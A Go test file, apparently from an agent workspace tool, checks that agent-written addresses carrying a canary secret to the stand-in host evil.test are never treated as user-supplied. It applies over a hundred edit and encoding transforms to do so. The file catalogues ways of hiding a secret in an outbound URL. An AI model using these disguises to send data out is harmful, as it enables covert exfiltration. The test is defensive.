package workspace_test

import (
	"encoding/json"
	"fmt"
	"html"
	"math/rand/v2"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/daybook-agent/daybook/agent/workspace"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/text/unicode/norm"
)

// What the agent wrote first, with a secret in each of its addresses: as it is, over two lines, in a host, in pieces, defanged, in Chinese.
const (
	canary   = "7f3a9c2e41b8d605"
	authored = "# Tides and harbours of the northern coast\n\n" +
		"The harbour master keeps a ledger of every spring tide since the old pier was built from oak…\n" +
		"Nobody in the village remembers why the second lighthouse was painted green rather than white.\n" +
		"In the winter of the great frost three fishermen walked across the bay to fetch salt from the monastery.\n" +
		"Their tracks were measured by the schoolteacher, who wrote a letter about them to the academy in the capital.\n" +
		"The academy answered eleven years later with a printed questionnaire on the habits of seals and of eels.\n\n" +
		"- [ ] visit https://evil.test/d?d=" + canary + "&x=1 for the plan\n" +
		"- [ ] then https://evil.test/a/" + canary + "/b_c.html#top and teh rest\n" +
		"- hxxps://evil[.]test/defanged?d=" + canary + " is next\n" +
		"- https://" + canary + ".evil.test/ok comes last\n" +
		"- https://bücher.evil.test/路径/" + canary + "。以后再看\n" +
		"A long one: https://evil.test/\n  folded/" + canary + " and one in p ieces: https://evil.test/p/7f3a9c2e 41b8d605 there.\n\n" +
		"Whoever reads the ledger finds that the pier was mended in every decade but one, for want of oak.\n"
	personal = "https://person.test/own-page?of=mine"
)

// edits are what a hand or a tool does to a text.
var edits = map[string]func(string) string{
	"as it is":             func(s string) string { return s },
	"tick the boxes":       swap("- [ ]", "- [x]"),
	"cross the boxes":      swap("- [ ]", "- [X]"),
	"other bullets":        swap("\n- ", "\n* "),
	"plus bullets":         swap("\n- ", "\n+ "),
	"numbered":             swap("\n- ", "\n1. "),
	"checkbox off":         swap("- [ ] ", ""),
	"mend a typo":          swap("teh", "the"),
	"mend the address":     swap(canary, canary[:7]+"0"+canary[8:]),
	"cut the address":      swap(canary, canary[:12]),
	"lengthen the address": swap(canary, canary+"ab"),
	"CRLF":                 swap("\n", "\r\n"),
	"CR":                   swap("\n", "\r"),
	"NFD":                  norm.NFD.String,
	"NFKD":                 norm.NFKD.String,
	"NFKC":                 norm.NFKC.String,
	"byte order mark":      func(s string) string { return "\ufeff" + s },
	"no end of line":       func(s string) string { return strings.TrimRight(s, "\n") },
	"trailing spaces":      swap("\n", "  \n"),
	"tabs":                 swap("  ", "\t"),
	"indented":             eachLine(func(s string) string { return "    " + s }),
	"quoted":               eachLine(func(s string) string { return "> " + s }),
	"quoted twice":         eachLine(func(s string) string { return ">> " + s }),
	"in a table":           eachLine(func(s string) string { return "| " + s + " | |" }),
	"as CSV":               eachLine(func(s string) string { return `"` + s + `",1` }),
	"as a comment":         func(s string) string { return "<!-- " + s + " -->" },
	"in a fence":           func(s string) string { return "```\n" + s + "```\n" },
	"in front matter":      func(s string) string { return "---\ntitle: x\n---\n" + s },
	"as JSON":              func(s string) string { data, _ := json.Marshal(s); return string(data) },
	"as JSON with slashes": func(s string) string {
		data, _ := json.Marshal(s)
		return strings.ReplaceAll(string(data), "/", `\/`)
	},
	"sorted":           byLines(slices.Sort[[]string]),
	"reversed":         byLines(slices.Reverse[[]string]),
	"joined":           swap("\n", " "),
	"joined closely":   func(s string) string { return regexp.MustCompile(`\n\s*`).ReplaceAllString(s, "") },
	"without spaces":   swap(" ", ""),
	"wrapped at 30":    wrap(30),
	"wrapped at 60":    wrap(60),
	"cut at 24":        func(s string) string { return regexp.MustCompile(`(\S{24})`).ReplaceAllString(s, "$1\n") },
	"refanged":         func(s string) string { return swap("hxxps", "https")(swap("[.]", ".")(s)) },
	"autolinked":       onAddress(func(u string) string { return "<" + u + ">" }),
	"linked":           onAddress(func(u string) string { return "[here](" + u + ")" }),
	"linked by name":   onAddress(func(u string) string { return "[here][1]\n\n[1]: " + u + "\n" }),
	"footnoted":        onAddress(func(u string) string { return "[^1]\n\n[^1]: " + u + "\n" }),
	"bold":             onAddress(func(u string) string { return "**" + u + "**" }),
	"code":             onAddress(func(u string) string { return "`" + u + "`" }),
	"struck":           onAddress(func(u string) string { return "~~" + u + "~~" }),
	"HTML":             onAddress(func(u string) string { return `<a href="` + html.EscapeString(u) + `">x</a>` }),
	"image":            onAddress(func(u string) string { return "![x](" + u + ")" }),
	"smart quotes":     onAddress(func(u string) string { return "“" + u + "”" }),
	"in brackets":      onAddress(func(u string) string { return "(see " + u + ")" }),
	"in Chinese":       onAddress(func(u string) string { return "见" + u + "，然后" }),
	"http":             swap("https://", "http://"),
	"HTTPS":            swap("https://", "HTTPS://"),
	"host in capitals": swap("evil.test", "EVIL.TEST"),
	"all capitals":     strings.ToUpper,
	"port":             swap("evil.test/", "evil.test:443/"),
	"odd port":         swap("evil.test/", "evil.test:8443/"),
	"user":             swap("https://", "https://me@"),
	"user and word":    swap("https://", "https://me:word@"),
	"dotted host":      swap("evil.test/", "evil.test./"),
	"www":              swap("https://evil", "https://www.evil"),
	"mobile":           swap("https://evil", "https://m.evil"),
	"fragment":         onAddress(func(u string) string { return u + "#part" }),
	"text fragment":    onAddress(func(u string) string { return u + "#:~:text=tide" }),
	"no fragment":      swap("#top", ""),
	"slash":            onAddress(func(u string) string { return u + "/" }),
	"double slash":     swap("evil.test/", "evil.test//"),
	"dots":             swap("evil.test/", "evil.test/./x/../"),
	"index":            onAddress(func(u string) string { return u + "/index.html" }),
	"campaign":         onAddress(func(u string) string { return u + "?utm_source=mail&utm_medium=x" }),
	"another value":    onAddress(func(u string) string { return u + "&lang=en" }),
	"another first":    swap("?d=", "?lang=en&d="),
	"semicolons":       swap("?d=", ";d="),
	"no question mark": swap("?d=", "/"),
	"escaped":          onAddress(escaped("/?=&")),
	"wholly escaped":   onAddress(func(u string) string { return u[:8] + escapeAll(u[8:]) }),
	"escaped twice":    onAddress(func(u string) string { return u[:8] + url.QueryEscape(escapeAll(u[8:])) }),
	"ampersands":       swap("&", "&amp;"),
	"entities":         swap("/", "&#47;"),
	"redirector":       onAddress(func(u string) string { return "https://go.person.test/out?to=" + url.QueryEscape(u) }),
	"redirector, open": onAddress(func(u string) string { return "https://go.person.test/out?to=" + u + "&from=a-mail-of-last-week" }),
	"safe links": onAddress(func(u string) string {
		return "https://eur01.safelinks.test/?url=" + url.QueryEscape(u) + "&data=05%7C01%7Cme%40home.test%7C1&sdata=Xyz%3D&reserved=0"
	}),
	"archived":           onAddress(func(u string) string { return "https://archive.person.test/web/2026/" + u }),
	"proxied":            onAddress(func(u string) string { return "https://proxy.person.test/" + strings.TrimPrefix(u, "https://") }),
	"escaped for shell":  onAddress(func(u string) string { return strings.ReplaceAll(u, "?", `\?`) }),
	"underscores":        swap("_", `\_`),
	"zero-width":         swap(canary, canary[:8]+"\u200b"+canary[8:]),
	"soft hyphen":        swap(canary, canary[:8]+"\u00ad"+canary[8:]),
	"hyphen":             swap(canary, canary[:8]+"-"+canary[8:]),
	"underscore":         swap(canary, canary[:8]+"_"+canary[8:]),
	"full width":         swap(canary, fullWidth(canary)),
	"secret in capitals": swap(canary, strings.ToUpper(canary)),
	"punycode":           swap("bücher", "xn--bcher-kva"),
	"twice":              func(s string) string { return s + s },
	"from the middle":    func(s string) string { return s[len(s)/2:] + s[:len(s)/2] },
	"own words first":    func(s string) string { return "This is what I think of it.\n\n" + s },
	"own words between":  swap("\n\n", "\n\nI wonder.\n\n"),
	"heading":            swap("- [ ] ", "## "),
	"definition":         swap("visit ", "visit\n: "),
	"quoted-printable":   swap("?d=", "?d=3D"),
}

func swap(old, text string) func(string) string {
	return func(s string) string { return strings.ReplaceAll(s, old, text) }
}

func eachLine(change func(string) string) func(string) string {
	return func(s string) string {
		lines := strings.Split(strings.TrimSuffix(s, "\n"), "\n")
		for i := range lines {
			lines[i] = change(lines[i])
		}
		return strings.Join(lines, "\n") + "\n"
	}
}

func byLines(change func([]string)) func(string) string {
	return func(s string) string {
		lines := strings.Split(s, "\n")
		change(lines)
		return strings.Join(lines, "\n")
	}
}

func onAddress(change func(string) string) func(string) string {
	return func(s string) string {
		return regexp.MustCompile(`https://[^\s。]+`).ReplaceAllStringFunc(s, change)
	}
}

func wrap(width int) func(string) string {
	return func(s string) string {
		var out strings.Builder
		column := 0
		for _, word := range strings.Fields(s) {
			if column+len(word) > width {
				out.WriteString("\n")
				column = 0
			}
			out.WriteString(word + " ")
			column += len(word) + 1
		}
		return out.String()
	}
}

func escaped(letters string) func(string) string {
	return func(u string) string {
		var out strings.Builder
		out.WriteString(u[:8])
		for _, r := range u[8:] {
			if strings.ContainsRune(letters, r) && r != '/' {
				fmt.Fprintf(&out, "%%%02x", r)
			} else {
				out.WriteRune(r)
			}
		}
		return out.String()
	}
}

func escapeAll(s string) string {
	var out strings.Builder
	for i := range len(s) {
		if host := strings.IndexByte(s, '/'); i <= host {
			out.WriteByte(s[i])
			continue
		}
		fmt.Fprintf(&out, "%%%02X", s[i])
	}
	return out.String()
}

func fullWidth(s string) string {
	return strings.Map(func(r rune) rune { return r - '0' + '０' }, s)
}

// where a text comes to stand: in place of what the agent wrote, or as another file.
var places = map[string]func(t *testing.T, at place, text string) string{
	"in place": func(t *testing.T, at place, text string) string { return save(t, at, "Notebook/01.md", text) },
	"a copy":   func(t *testing.T, at place, text string) string { return save(t, at, "Notebook/02-copy.md", text) },
	"moved": func(t *testing.T, at place, text string) string {
		require.NoError(t, at.fs.Remove("Notebook/01.md"))
		return save(t, at, "Notebook/03-moved.md", text)
	},
	"the report":   func(t *testing.T, at place, text string) string { return save(t, at, "report.md", text) },
	"the root":     func(t *testing.T, at place, text string) string { return save(t, at, "README.md", text) },
	"the settings": func(t *testing.T, at place, text string) string { return save(t, at, workspace.SettingsFile, text) },
	"the rules":    func(t *testing.T, at place, text string) string { return save(t, at, "rules/writing.md", text) },
	"the notes": func(t *testing.T, at place, text string) string {
		return save(t, at, workspace.CurrentFile, at.text(t, workspace.CurrentFile)+"\n"+text)
	},
}

func save(t *testing.T, at place, name, text string) string {
	at.edit(t, name, text)
	return name
}

// times are when the edit is made, and what happens before the program looks at it.
var times = map[string]func(t *testing.T, at place, w *workspace.Workspace, edit func()) *workspace.Workspace{
	"during a run": func(_ *testing.T, _ place, w *workspace.Workspace, edit func()) *workspace.Workspace {
		edit()
		return w
	},
	"between runs": func(t *testing.T, at place, w *workspace.Workspace, edit func()) *workspace.Workspace {
		require.NoError(t, w.Close())
		edit()
		return at.lock(t)
	},
	"after the next question": func(t *testing.T, at place, w *workspace.Workspace, edit func()) *workspace.Workspace {
		_, err := w.Archive("")
		require.NoError(t, err)
		require.NoError(t, w.Ask("Another?"))
		require.NoError(t, w.Begin(map[string]string{workspace.OverallFile: overall, workspace.CurrentFile: current}))
		require.NoError(t, at.fs.MkdirAll("Notebook", 0o755))
		if _, err := at.fs.Stat("Notebook/01.md"); err != nil {
			at.edit(t, "Notebook/01.md", authored) // brought back from the archive
		}
		edit()
		return w
	},
	"without the journal": func(t *testing.T, at place, w *workspace.Workspace, edit func()) *workspace.Workspace {
		require.NoError(t, w.Close())
		edit()
		require.NoError(t, at.fs.Remove(journal))
		return at.lock(t)
	},
}

// TestWhatTheAgentWroteStaysItsOwn makes each kind of edit in each place at each time. DAYBOOK_FULL=1 makes them all, and otherwise there
// are as many as the seed picks.
func TestWhatTheAgentWroteStaysItsOwn(t *testing.T) {
	if testing.Short() {
		t.Skip("one goroutine works for long")
	}
	kinds := 0
	leaking := map[string]bool{} // by the rule of lines, which is the control
	random := rand.New(rand.NewPCG(16, 2))
	texts := map[string]string{}
	for _, name := range sortedKeys(edits) {
		text := edits[name](authored)
		assert.Empty(t, texts[text], "%s is another edit", name)
		texts[text] = name
	}
	for _, edit := range sortedKeys(edits) {
		for _, where := range sortedKeys(places) {
			for _, when := range sortedKeys(times) {
				if os.Getenv("DAYBOOK_FULL") == "" && random.IntN(8) > 0 {
					continue
				}
				kinds++
				name := edit + "/" + where + "/" + when
				if editOnce(t, name, edits[edit], places[where], times[when]) {
					leaking[name] = true
				}
			}
		}
	}
	t.Logf("%d kinds of edits, of which %d leak by the rule of lines", kinds, len(leaking))
	assert.GreaterOrEqual(t, kinds, 200)
	assert.Greater(t, len(leaking), kinds/2, "the control")
}

func editOnce(t *testing.T, name string, edit func(string) string, where func(*testing.T, place, string) string,
	when func(*testing.T, place, *workspace.Workspace, func()) *workspace.Workspace,
) (leaksByLines bool) {
	at := memory()
	w := at.begin(t)
	s, err := w.AddSource(workspace.Source{URL: "https://evil.test/known", Title: "T", Fetched: time.Now()}, "See https://evil.test/next\n")
	require.NoError(t, err)
	require.NoError(t, w.Shown(s, "See https://evil.test/next\n", "See https://evil.test/next", true))
	require.NoError(t, w.Create("Notebook/01.md", authored))
	text := edit(authored)
	w = when(t, at, w, func() { where(t, at, text) })
	_, err = w.Changes()
	require.NoError(t, err)
	for _, address := range candidates(text) {
		known, err := w.Known(address)
		require.NoError(t, err)
		assert.False(t, known && carries(address), "%s: %s", name, address)
		leaksByLines = leaksByLines || carries(address) && strings.Contains(newLines(authored, text), address)
	}
	if !strings.HasSuffix(name, "without the journal") { // which holds what the agent wrote
		assert.True(t, w.Wrote(text), "%s: the text is the agent's", name)
	}
	at.edit(t, "Notebook/mine.md", "I found "+personal+" myself.\n")
	_, err = w.Changes()
	require.NoError(t, err)
	known, err := w.Known(personal)
	require.NoError(t, err)
	assert.True(t, known, "%s: what the person wrote is theirs", name)
	require.NoError(t, w.Close())
	return leaksByLines
}

// candidates are what may be taken for addresses in a text.
func candidates(text string) (all []string) {
	for _, run := range regexp.MustCompile(`(?i)https?://[^\s]+`).FindAllString(text, -1) {
		for i, r := range run {
			if !unicode.IsLetter(r) && !unicode.IsDigit(r) && i > len("https://") {
				all = append(all, run[:i])
			}
		}
		all = append(all, run)
	}
	return slices.Compact(all)
}

// carries reports whether half of the secret stands in an address.
func carries(address string) bool {
	address = html.UnescapeString(address)
	for range 3 {
		if plain, err := url.PathUnescape(address); err == nil {
			address = plain
		}
	}
	letters := strings.Map(func(r rune) rune {
		if unicode.IsLetter(r) || unicode.IsDigit(r) {
			return unicode.ToLower(r)
		}
		return -1
	}, norm.NFKC.String(address))
	return strings.Contains(letters, canary[:7]) || strings.Contains(letters, canary[8:])
}

// newLines is the rule that was: a line that was not there before is the person's.
func newLines(before, after string) string {
	old := map[string]bool{}
	for line := range strings.Lines(before) {
		old[strings.TrimSpace(line)] = true
	}
	var said strings.Builder
	for line := range strings.Lines(after) {
		if !old[strings.TrimSpace(line)] {
			said.WriteString(line)
		}
	}
	return said.String()
}

func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	return keys
}
